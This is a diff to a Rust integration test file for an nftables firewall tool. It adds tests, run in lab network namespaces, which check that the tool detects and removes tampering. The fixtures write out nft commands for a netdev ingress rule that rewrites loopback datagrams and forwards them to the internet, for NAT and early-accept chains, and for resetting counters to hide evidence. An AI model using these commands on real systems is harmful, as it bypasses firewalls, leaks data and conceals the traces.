@@ -11,8 +11,10 @@ mod support;
 
 use serde_json::Value;
 use support::addr::*;
-use support::{Lab, Netns, Probe, mismatches};
-use wardbox_firewall::{ApplyOutcome, Drift, Firewall, Nft, Policy, Ruleset, Status};
+use support::{Catcher, Lab, Netns, Probe, mismatches};
+use wardbox_firewall::{
+    ApplyOutcome, CounterHistory, Drift, Effect, Firewall, Nft, Policy, Ruleset, Status,
+};
 
 const POLICY: &str = r#"
 clinic_lan = ["192.0.2.0/24", "2001:db8:1::/64"]
@@ -421,15 +423,26 @@ fn netns_drift_rogue_accept_table_is_detected_and_removed() {
     // A drop in any base chain is final, so our table still holds...
     assert_all(&lab.boxns, LEAK, false, "with a rogue accept table");
     // ...but the rogue table is tampering, reported and removed.
+    let handle = rule_handles(&lab.boxns, "ip", "rogue")[0];
     assert_repaired(
         &lab,
         &fw,
-        &[Drift::ForeignAcceptChain {
-            family: "ip".into(),
-            table: "rogue".into(),
-            chain: "out".into(),
-            hook: "output".into(),
-        }],
+        &[
+            Drift::ForeignAcceptChain {
+                family: "ip".into(),
+                table: "rogue".into(),
+                chain: "out".into(),
+                hook: "output".into(),
+            },
+            Drift::ForeignRule {
+                family: "ip".into(),
+                table: "rogue".into(),
+                chain: "out".into(),
+                handle,
+                effect: Effect::Accepts,
+                statement: "accept".into(),
+            },
+        ],
     );
     let listed = lab.boxns.nft(&["list", "tables"]);
     assert_eq!(
@@ -475,4 +488,305 @@ fn netns_apply_is_idempotent_and_counters_survive_repair() {
         after.blocked_out.bytes >= before.blocked_out.bytes,
         "{before:?} -> {after:?}"
     );
+}
+
+/// The handles of the rules of a table, in listing order.
+fn rule_handles(ns: &Netns, family: &str, table: &str) -> Vec<u64> {
+    let listed: Value = serde_json::from_str(&ns.nft(&["-j", "list", "table", family, table]))
+        .expect("nft JSON");
+    listed["nftables"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|o| o.pointer("/rule/handle").and_then(Value::as_u64))
+        .collect()
+}
+
+/// The tables left in the namespace, sorted.
+fn tables(ns: &Netns) -> Vec<String> {
+    let mut tables: Vec<String> = ns
+        .nft(&["list", "tables"])
+        .lines()
+        .map(str::to_owned)
+        .collect();
+    tables.sort();
+    tables
+}
+
+/// The port the exfiltration below aims at, on loopback and on the internet side.
+const EXFIL_PORT: u16 = 7777;
+
+/// The attack the outside review found: root in the box's network namespace adds a `netdev`
+/// table whose ingress chain on `lo` rewrites loopback datagrams and forwards them out of the
+/// internet link. Our output chain lets them through (to `lo`, allowed), and they never pass
+/// an inet hook again. Verification must name the table, and repair must remove it.
+#[test]
+fn netns_foreign_netdev_table_forwarding_loopback_out_is_detected_and_removed() {
+    let lab = Lab::new();
+    let fw = firewall(POLICY);
+    apply_in(&lab.boxns, &fw);
+    let internet = Catcher::new(&lab.ext, EXFIL_PORT);
+    let send = |payload: &'static [u8], to: &'static str| {
+        lab.boxns
+            .run(move || support::udp_send(sock(to, EXFIL_PORT), payload));
+    };
+    send(b"direct", EXT4);
+    assert!(
+        !internet.caught(b"direct"),
+        "with the firewall, a datagram straight to the internet is dropped"
+    );
+    send(b"loopback", "127.0.0.1");
+    assert!(
+        !internet.caught(b"loopback"),
+        "a datagram to loopback stays on the box"
+    );
+
+    lab.boxns.nft(&["add", "table", "netdev", "exfil"]);
+    lab.boxns.nft(&[
+        "add",
+        "chain",
+        "netdev",
+        "exfil",
+        "lo_in",
+        "{ type filter hook ingress device lo priority 0; policy accept; }",
+    ]);
+    lab.boxns.nft(&[
+        "add", "rule", "netdev", "exfil", "lo_in", "ip", "daddr", "127.0.0.1", "udp", "dport",
+        "7777", "ip", "saddr", "set", BOX_EXT4, "ip", "daddr", "set", EXT4, "fwd", "ip", "to",
+        EXT4, "device", "ext0",
+    ]);
+    // The first datagram may be lost while the box resolves the peer's link address.
+    send(b"primer", "127.0.0.1");
+    let _ = internet.caught(b"primer");
+    send(b"patient record", "127.0.0.1");
+    assert!(
+        internet.caught(b"patient record"),
+        "the leak is real: the rewritten datagram reaches the internet side"
+    );
+
+    let handle = rule_handles(&lab.boxns, "netdev", "exfil")[0];
+    let foreign_rule = |effect, statement: &str| Drift::ForeignRule {
+        family: "netdev".into(),
+        table: "exfil".into(),
+        chain: "lo_in".into(),
+        handle,
+        effect,
+        statement: statement.into(),
+    };
+    assert_repaired(
+        &lab,
+        &fw,
+        &[
+            Drift::ForeignAcceptChain {
+                family: "netdev".into(),
+                table: "exfil".into(),
+                chain: "lo_in".into(),
+                hook: "ingress".into(),
+            },
+            foreign_rule(Effect::Rewrites, "mangle"),
+            foreign_rule(Effect::Forwards, "fwd"),
+        ],
+    );
+    assert_eq!(tables(&lab.boxns), ["table inet wardbox"], "the foreign table is gone");
+    send(b"patient record again", "127.0.0.1");
+    assert!(
+        !internet.caught(b"patient record again"),
+        "after repair nothing leaves"
+    );
+}
+
+/// One line per finding without rule handles (which the kernel picks), sorted: what the
+/// test below expects.
+fn foreign_summary(drift: &[Drift]) -> Vec<String> {
+    let mut lines: Vec<String> = drift
+        .iter()
+        .map(|d| match d {
+            Drift::ForeignRule {
+                family,
+                table,
+                chain,
+                effect,
+                statement,
+                ..
+            } => format!("{family} {table} {chain}: {effect} ({statement})"),
+            Drift::ForeignAcceptChain {
+                family,
+                table,
+                chain,
+                hook,
+            } => format!("{family} {table} {chain}: hooked on {hook} with policy accept"),
+            other => other.to_string(),
+        })
+        .collect();
+    lines.sort();
+    lines
+}
+
+#[test]
+fn netns_foreign_tables_in_every_family_are_detected_and_removed() {
+    let lab = Lab::new();
+    let fw = firewall(POLICY);
+    apply_in(&lab.boxns, &fw);
+    let add = |args: &[&str]| {
+        lab.boxns.nft(args);
+    };
+    // NAT: masquerade on the internet link, and a DNAT of a loopback address to the internet.
+    add(&["add", "table", "ip", "nat"]);
+    add(&[
+        "add", "chain", "ip", "nat", "post",
+        "{ type nat hook postrouting priority 100; policy accept; }",
+    ]);
+    add(&["add", "rule", "ip", "nat", "post", "oifname", "ext0", "masquerade"]);
+    add(&[
+        "add", "chain", "ip", "nat", "out",
+        "{ type nat hook output priority -100; policy accept; }",
+    ]);
+    add(&[
+        "add", "rule", "ip", "nat", "out", "ip", "daddr", "127.0.0.2", "tcp", "dport", "80",
+        "dnat", "to", EXT4,
+    ]);
+    // Bridge and ARP: frames that never pass an inet hook.
+    add(&["add", "table", "bridge", "br"]);
+    add(&[
+        "add", "chain", "bridge", "br", "bridged",
+        "{ type filter hook forward priority 0; policy accept; }",
+    ]);
+    add(&["add", "table", "arp", "a"]);
+    add(&[
+        "add", "chain", "arp", "a", "out",
+        "{ type filter hook output priority 0; policy accept; }",
+    ]);
+    // An inet chain before ours at output that accepts everything.
+    add(&["add", "table", "inet", "early"]);
+    add(&[
+        "add", "chain", "inet", "early", "out",
+        "{ type filter hook output priority -200; policy accept; }",
+    ]);
+    add(&["add", "rule", "inet", "early", "out", "accept"]);
+    // Benign, left alone: a drop-only ingress chain on the internal-server link, and a table
+    // of counters.
+    add(&["add", "table", "netdev", "quiet"]);
+    add(&[
+        "add", "chain", "netdev", "quiet", "drops",
+        "{ type filter hook ingress device srv0 priority 0; policy drop; }",
+    ]);
+    add(&["add", "rule", "netdev", "quiet", "drops", "counter", "drop"]);
+    add(&["add", "table", "inet", "tally"]);
+    add(&["add", "counter", "inet", "tally", "seen"]);
+    add(&["add", "chain", "inet", "tally", "counting"]);
+    add(&["add", "rule", "inet", "tally", "counting", "counter", "name", "seen"]);
+
+    let status = status_in(&lab.boxns, &fw);
+    expect_test::expect![[r#"
+        [
+            "arp a out: hooked on output with policy accept",
+            "bridge br bridged: hooked on forward with policy accept",
+            "inet early out: accepts packets (accept)",
+            "inet early out: hooked on output with policy accept",
+            "ip nat out: hooked on output with policy accept",
+            "ip nat out: rewrites packets (dnat)",
+            "ip nat post: hooked on postrouting with policy accept",
+            "ip nat post: rewrites packets (masquerade)",
+        ]
+    "#]]
+    .assert_debug_eq(&foreign_summary(&status.drift));
+    match apply_in(&lab.boxns, &fw) {
+        ApplyOutcome::Applied { repaired } => assert_eq!(repaired, status.drift),
+        ApplyOutcome::Unchanged => panic!("foreign tables were not removed"),
+    }
+    assert_eq!(apply_in(&lab.boxns, &fw), ApplyOutcome::Unchanged);
+    assert_eq!(
+        tables(&lab.boxns),
+        ["table inet tally", "table inet wardbox", "table netdev quiet"],
+        "only the benign foreign tables are left"
+    );
+    assert_all(&lab.boxns, LEAK, false, "after repair");
+    assert_all(&lab.lan, UI, true, "after repair");
+}
+
+/// A scratch path for a counter history, unique to this test run.
+fn history_path(name: &str) -> std::path::PathBuf {
+    let dir = std::env::temp_dir().join(format!("wardbox-fw-netns-{}-{name}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    dir.join("firewall-counters.json")
+}
+
+/// Zeroing the drop counters, or deleting the table and adding an identical one, leaves a
+/// ruleset that matches the intent exactly: only the counter history shows it.
+#[test]
+fn netns_counter_reset_is_detected_and_repaired_with_the_evidence() {
+    let lab = Lab::new();
+    let fw = firewall(POLICY);
+    let history = CounterHistory::new(history_path("reset"));
+    let recorded_status = || {
+        lab.boxns
+            .run(|| fw.status_recorded(&history))
+            .unwrap_or_else(|e| panic!("status: {e}"))
+    };
+    let recorded_apply = || {
+        lab.boxns
+            .run(|| fw.apply_recorded(&history))
+            .unwrap_or_else(|e| panic!("apply: {e}"))
+    };
+    recorded_apply();
+    assert_all(&lab.boxns, EGRESS_ATTEMPTS, false, "with the firewall");
+    let before = recorded_status();
+    assert!(before.is_enforced(), "{:?}", before.drift);
+    assert!(before.counters.blocked_out.packets > 0, "{:?}", before.counters);
+
+    lab.boxns.nft(&["reset", "counters", "table", "inet", "wardbox"]);
+    assert!(
+        status_in(&lab.boxns, &fw).is_enforced(),
+        "without the history the reset is invisible"
+    );
+    let after_reset = recorded_status();
+    let reset_out = after_reset.drift.iter().find_map(|d| match d {
+        Drift::CounterReset { name, last, now } if name == "blocked_out" => Some((*last, *now)),
+        _ => None,
+    });
+    let (last, now) = reset_out.unwrap_or_else(|| panic!("no reset reported: {:?}", after_reset.drift));
+    assert!(last.packets >= before.counters.blocked_out.packets && now.packets < last.packets);
+    assert!(
+        after_reset
+            .drift
+            .iter()
+            .all(|d| matches!(d, Drift::CounterReset { .. })),
+        "{:?}",
+        after_reset.drift
+    );
+    // The reset stays reported until repaired: the history kept the higher reading.
+    assert_eq!(recorded_status().drift.len(), after_reset.drift.len());
+    match recorded_apply() {
+        ApplyOutcome::Applied { repaired } => assert!(
+            repaired.iter().any(|d| matches!(d, Drift::CounterReset { .. })),
+            "{repaired:?}"
+        ),
+        ApplyOutcome::Unchanged => panic!("the reset was not repaired"),
+    }
+    let repaired = recorded_status();
+    assert!(repaired.is_enforced(), "{:?}", repaired.drift);
+    assert!(
+        repaired.counters.blocked_out.packets >= before.counters.blocked_out.packets,
+        "the evidence is back: {:?} -> {:?}",
+        before.counters,
+        repaired.counters
+    );
+
+    // The table deleted and the very same table added again, with fresh counters.
+    lab.boxns.run(|| fw.remove()).expect("delete our table");
+    lab.boxns.run(|| fw.apply()).expect("an identical table, counters at zero");
+    assert!(status_in(&lab.boxns, &fw).is_enforced());
+    let replaced = recorded_status();
+    assert!(
+        replaced.drift.iter().any(|d| matches!(
+            d,
+            Drift::CounterReset { name, last, now }
+                if name == "blocked_out"
+                    && *last == repaired.counters.blocked_out
+                    && now.packets < last.packets
+        )),
+        "{:?}",
+        replaced.drift
+    );
+    let _ = std::fs::remove_dir_all(history.path().parent().expect("dir"));
 }
